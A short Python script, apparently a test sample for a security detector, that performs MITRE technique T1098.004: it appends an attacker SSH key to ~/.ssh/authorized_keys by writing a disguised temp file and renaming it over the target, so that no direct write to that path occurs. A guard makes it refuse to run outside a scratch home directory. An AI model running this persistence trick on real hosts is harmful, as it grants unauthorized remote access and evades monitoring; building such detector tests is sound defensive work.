# technique: T1098.004
"""SSH Authorized Keys (T1098.004), spelled as an atomic os.replace.

Reads the existing ~/.ssh/authorized_keys (if any), writes the old lines
plus an attacker key to a temporary file with an innocuous name inside
~/.ssh, then os.replace()s it over authorized_keys. No open() of the
authorized_keys path for writing ever happens: the path only appears as
the destination argument of the rename.

A good detector raises a high alert: a file is renamed onto
~/.ssh/authorized_keys.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import tempfile

KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7redteamkey0001 backup@host\n"

home = os.path.expanduser("~")
ssh_dir = os.path.join(home, ".ssh")
os.makedirs(ssh_dir, mode=0o700, exist_ok=True)
target = os.path.join(ssh_dir, "authorized_keys")
old = ""
if os.path.exists(target):
    with open(target) as f:
        old = f.read()
fd, tmp = tempfile.mkstemp(prefix=".known_hosts.", dir=ssh_dir)
with os.fdopen(fd, "w") as f:
    f.write(old + KEY)
os.chmod(tmp, 0o600)
os.replace(tmp, target)
